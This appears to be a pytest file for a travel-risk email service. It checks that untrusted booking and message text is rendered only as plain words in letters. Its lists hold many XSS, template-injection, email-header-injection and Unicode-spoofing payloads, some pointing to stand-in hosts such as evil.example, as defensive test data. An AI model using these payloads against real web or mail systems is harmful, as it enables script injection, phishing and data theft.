"""Foreign text: whatever stands in a booking, a letter shows it as words and nothing else."""

import re
import unicodedata
from collections.abc import Callable
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html as lxml_html

from tests.mail.broadcast_stories import ASKS, BASE, HELP
from tests.mail.desk_stories import TIGHTER
from tests.mail.world import ADD, BRAVO, FRA, PLACES, TRIP_URL, carrier, facts, journey, rating, segment
from travelrisk.domain.itineraries import (
    Basis,
    Itinerary,
    Marketing,
    Operating,
    Outcome,
    Place,
    Question,
    Severity,
    Traveller,
)
from travelrisk.domain.ratings import Evidence, Level
from travelrisk.domain.texts import LANGUAGES, Language, Texts
from travelrisk.mail.broadcasts import Words, broadcast, help_wanted
from travelrisk.mail.changes import about_change
from travelrisk.mail.letters import LetterFacts, compose
from travelrisk.mail.render import Letter
from travelrisk.telling.foreign import foreign, linkable, visible

SCRIPTS = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script xlink:href=data:,alert(1)></script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=//evil.example><input name=p></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<table background=//evil.example/x.png>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><b>Cleared</b><a href="//evil.example">',
    "--><script>alert(1)</script>",
    "<!--",
    "]]><script>alert(1)</script>",
    "</td></tr></table><h1>Cleared</h1>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "{{ 7 * 7 }}{{ self.__init__ }}",
    "{% include '/etc/passwd' %}",
    "{reason}{0}{name.__class__}",
    "%(name)s%s%n",
    "${7*7}#{7*7}",
    "style=background:url(//evil.example)",
)
LINKS = (
    "http://evil.example/",
    "https://evil.example/pay",
    "HTTPS://EVIL.EXAMPLE",
    "//evil.example",
    "www.evil.example",
    "WWW.EVIL.EXAMPLE",
    "evil.example/login",
    "evil.com",
    "alice@evil.com",
    "mailto:alice@evil.com",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "ftp://evil.example",
    "http://203.0.113.9/x",
    "evil\uff0ecom",
    "evil\u3002com",
    "http\uff1a\uff0f\uff0fevil.example",
    "ev\u00adil.com",
    "www\u200b.evil.com",
    "[click](https://evil.example)",
    "<https://evil.example>",
    "tel:+1900555",
)
TRICKS = (
    "Review\r\nSubject: [Cleared]",
    "x\r\n\r\n[Cleared] X1 707",
    "\u202egnidoc deraelC",
    "\u2066Cleared\u2069",
    "\u200f\u061cCleared",
    "C\u200bl\u200be\u200ba\u200br\u200be\u200bd",
    "a" + "\u0301" * 500,
    "\U000e0043\U000e006c",
    "\ufeffx\u2028y\u2029z\x85",
    "\ud800 alone",
    "A" * 100_000,
    "\x1b[31mred\x07",
)
PAYLOADS = SCRIPTS + LINKS + TRICKS

TAGS = {
    *("html", "head", "meta", "title", "style", "body", "table", "tbody", "tr", "td"),
    *("h1", "h2", "p", "span", "br", "a", "ol", "li"),
}
ATTRIBUTES = {
    *(
        "lang",
        "dir",
        "charset",
        "name",
        "content",
        "class",
        "role",
        "width",
        "cellpadding",
        "cellspacing",
        "style",
    ),
    *("align", "href", "hreflang", "aria-hidden", "value"),
}
OURS = re.compile(
    rf"{re.escape(TRIP_URL)}(/understood)?(\?language=(en|fr|es))?|mailto:(bob|travel-unit)@example\.org"
)
LINK_LIKE = re.compile(r"(?:\w://\S)|\bwww\.\S|\w\.[^\W\d]{2,}|\S@\S", re.IGNORECASE)


def _everywhere(text: str) -> Itinerary:
    """Put *text* into every field of an itinerary that a document can fill."""
    base = segment(BRAVO, "410", ADD, FRA)
    hit = replace(
        base,
        marketing=Marketing(text, text, text),
        operating=Operating(text, text, text, Basis.STATED, brand=text),
        origin=Place(text),
        destination=Place(text),
        stops=(Place(text),),
        source=text,
    )
    unknown = replace(hit, operating=Operating(name=text, basis=Basis.UNKNOWN))
    return Itinerary(
        (hit, unknown, base),
        (Traveller(text, text, text, text, text),),
        questions=(Question("operator_unresolved", Severity.BLOCK, 0, text, (text, text)),),
        unread=(text,),
        outcome=Outcome.PARTIAL,
    )


def _by_itinerary(text: str) -> LetterFacts:
    return facts(_everywhere(text))


def _by_rating(text: str) -> LetterFacts:
    words = Texts(text, text, text)
    evidence = (Evidence(text, text, text, None, None, text),)
    row = carrier(BRAVO, Level.NOT_RECOMMENDED, set_by=text, reason=words, condition=words, evidence=evidence)
    return facts(journey(segment(BRAVO, "410", ADD, FRA)), (*PLACES, row))


def _by_addressee(text: str) -> LetterFacts:
    return replace(facts(journey(segment())), addressee=text, trip_reference="TR-7KQ2M9")


@pytest.mark.threat(22)
@pytest.mark.parametrize("fill", [_by_itinerary, _by_rating, _by_addressee])
@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_no_foreign_word_becomes_markup_a_link_or_a_header(
    payload: str, fill: Callable[[str], LetterFacts]
) -> None:
    for language in LANGUAGES:
        letter = compose(fill(payload), language)
        root = lxml_html.document_fromstring(letter.html)
        elements = list(root.iter("*"))
        assert {str(each.tag) for each in elements} <= TAGS
        assert {str(name) for each in elements for name in each.attrib} <= ATTRIBUTES
        numbered = [each for each in elements if "value" in each.attrib]
        assert all(each.tag == "li" and str(each.get("value")).isdecimal() for each in numbered)
        hrefs = [str(each.get("href")) for each in elements if "href" in each.attrib]
        strangers = [href for href in hrefs if not OURS.fullmatch(href)]
        assert all(fill is _by_rating and href == linkable(payload) for href in strangers)
        assert not _unseen(letter.subject + letter.html)
        assert not _unseen(letter.text)
        assert len(letter.subject) < 250
        assert "\n" not in letter.subject


def _unseen(text: str) -> set[str]:
    return {
        hex(ord(c)) for c in text if unicodedata.category(c) in {"Cc", "Cf", "Cs", "Zl", "Zp"} and c != "\n"
    }


@pytest.mark.threat(22)
@pytest.mark.parametrize("payload", LINKS)
def test_no_foreign_word_looks_like_a_link(payload: str) -> None:
    ours = re.compile(rf"{re.escape(TRIP_URL)}\S*|\S+@example\.org|\[[a-z_.]+\]")
    for fill in (_by_itinerary, _by_addressee):
        if fill is _by_addressee and payload == "alice@evil.com":
            continue  # an address is what the addressee may be: her own
        text = ours.sub(" ", compose(fill(payload), "en").text)
        assert not LINK_LIKE.search(text), LINK_LIKE.findall(text)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Ethiopian Airlines", "Ethiopian Airlines"),
        ("Côte d'Ivoire  Ñuñoa", "Côte d'Ivoire Ñuñoa"),
        ("Hãng hàng không Việt", "Hãng hàng không Việt"),
        ("St.Petersburg", "St. Petersburg"),
        ("about 1.5 h", "about 1.5 h"),
        ("evil.example", "evil. example"),
        ("http://evil", "http: //evil"),
        ("alice@example.org", "alice (at) example. org"),
        ("abcdef", "abcdef"),
        ("", ""),
    ],
)
def test_ordinary_words_stay_as_they_are(text: str, shown: str) -> None:
    assert foreign(text) == shown


def test_long_text_is_cut_with_a_sign() -> None:
    assert foreign("abcdef", 4) == "abc…"


@given(st.text(), st.integers(1, 60))
def test_foreign_text_is_short_and_visible(text: str, longest: int) -> None:
    shown = foreign(text, longest)
    assert len(shown) <= longest
    assert not _unseen(shown)
    assert visible(shown) == shown


@pytest.mark.parametrize(
    "url",
    ["https://example.org/a?b=c&d=%20#e", "http://127.0.0.1:8000/x", "https://example.org"],
)
def test_plain_addresses_may_be_linked(url: str) -> None:
    assert linkable(url) == url


@pytest.mark.parametrize(
    "url",
    [
        "", "javascript:alert(1)", "//example.org", "https://", "https://user@example.org", "https://a b",
        "https://example.org/\r\nx", "https://example.org/é", 'https://example.org/"x', "https://example.org/<",
        "https://example.org\\@evil.example", "ftp://example.org", "https://example.org/" + "x" * 500,
        "https://ex\u0430mple.org",
    ],
)  # fmt: skip
def test_anything_else_is_not_linked(url: str) -> None:
    assert linkable(url) == ""


def test_a_source_without_a_usable_address_is_named_without_a_link() -> None:
    row = carrier(
        BRAVO, Level.NOT_RECOMMENDED, evidence=(Evidence("A report", url="javascript:alert(1)"),), id="R-1"
    )
    letter = compose(facts(journey(segment(BRAVO, "410", ADD, FRA)), (*PLACES, row)), "en")
    assert "Evidence: A report" in letter.text
    assert "javascript" not in letter.html + letter.text
    assert rating is not None


def _of_a_unit(text: str, language: Language) -> Letter:
    """Put *text* wherever the words of a travel unit, or of a traveller who calls for help, may stand."""
    words = Words(Texts(text, text, text), Texts(text, text, text))
    return broadcast(replace(ASKS, words=words, author=text, office=text), language)


def _of_who_calls(text: str, language: Language) -> Letter:
    return help_wanted(replace(HELP, names=(text, text), note=text), language)


def _of_a_change(text: str, language: Language) -> Letter:
    shifts = tuple(each._replace(name=Texts(text, text, text)) for each in TIGHTER.shifts)
    told = replace(TIGHTER, author=text, actor=text, shifts=shifts)
    return about_change("signature_asked", told, language)


@pytest.mark.threat(22)
@pytest.mark.parametrize("write", [_of_a_unit, _of_who_calls, _of_a_change])
def test_no_word_of_people_becomes_markup_or_a_link_in_letters_between_them(
    write: Callable[[str, Language], Letter],
) -> None:
    ours = re.compile(rf"{re.escape(BASE)}/[\w/?=&:.-]*")
    for payload in PAYLOADS:
        letter = write(payload, "en")
        root = lxml_html.document_fromstring(letter.html)
        elements = list(root.iter("*"))
        assert {str(each.tag) for each in elements} <= TAGS | {"blockquote", "strong"}, payload
        assert {str(name) for each in elements for name in each.attrib} <= ATTRIBUTES, payload
        hrefs = [str(each.get("href")) for each in elements if "href" in each.attrib]
        assert all(ours.fullmatch(href) for href in hrefs), hrefs
        assert not _unseen(letter.subject + letter.html + letter.text), payload
        assert "\n" not in letter.subject
        if payload in LINKS:  # a unit may name a page in its own words, which stand behind a mark
            said = "\n".join(line for line in letter.text.splitlines() if not line.startswith("| "))
            assert not LINK_LIKE.search(ours.sub(" ", said)), payload
